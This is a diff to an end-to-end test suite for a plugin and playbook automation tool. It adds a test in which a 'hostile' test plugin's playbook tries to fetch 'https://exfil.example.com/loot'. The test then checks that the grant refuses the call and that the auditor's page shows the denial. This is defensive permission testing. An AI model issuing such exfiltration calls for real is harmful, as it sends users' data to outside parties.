@@ -281,6 +281,22 @@ async fn an_auditor_sees_grants_and_secret_names_but_cannot_change_a_grant() {
         &["secret", "set", "ipinfo", "token"],
         "s3cret-value-never-shown\n",
     );
+    // A playbook whose plugin call the grant refuses: the auditor's page lists the denial.
+    cli.ok(&[
+        "plugin",
+        "install",
+        dist().join("test-hostile").to_str().unwrap(),
+        "--grant-requested",
+    ]);
+    write_playbook(
+        &cli.playbooks_dir(),
+        "exfil",
+        "",
+        r#"let kind = "none";
+           try { invoke("test-hostile", "fetch", #{ url: "https://exfil.example.com/loot" }); }
+           catch (e) { kind = e.kind; }
+           kind"#,
+    );
     user(&cli, "audrey", "auditor");
     let grants_before = cli
         .ok(&["audit", "export", "--action", "plugin.grant"])
@@ -329,6 +345,31 @@ async fn an_auditor_sees_grants_and_secret_names_but_cannot_change_a_grant() {
         !cli.ok(&["plugin", "inspect", "ipinfo"])
             .contains("exfil.example.com")
     );
+
+    // The refused call of a playbook, on the plugin's page.
+    let run = cli.ok(&["playbook", "run", "exfil", "--detach"]);
+    let run = run.split_whitespace().nth(1).unwrap().to_owned();
+    eventually(30, "the exfil run done", async || {
+        let v = json(&cli, &["run", "show", &run, "--json"]);
+        (v["run"]["status"] == "completed").then_some(())
+    })
+    .await;
+    browser.goto(&format!("{base}/plugins/test-hostile")).await;
+    let calls = browser.text("#calls").await;
+    assert!(
+        calls.contains("fetch") && calls.contains("denied") && calls.contains(&run),
+        "{calls}"
+    );
+    assert!(
+        browser
+            .text("#calls-summary")
+            .await
+            .contains("1 denied by the grant")
+    );
+    browser
+        .execute("document.querySelector('#calls').scrollIntoView(); return null;")
+        .await;
+    browser.screenshot("plugin-denials").await;
 
     // The audit log, verified.
     browser.goto(&format!("{base}/audit?action=plugin.")).await;
@@ -380,6 +421,7 @@ async fn an_engineer_cancels_and_restarts_a_run_from_its_page() {
     .await;
     let restarts = cli.ok(&["audit", "export", "--action", "run.restart"]);
     assert!(restarts.contains("user:erin"), "{restarts}");
+    browser.goto(&format!("{base}/runs/{id}")).await;
     browser.screenshot("run-restarted").await;
     browser.close().await;
 }
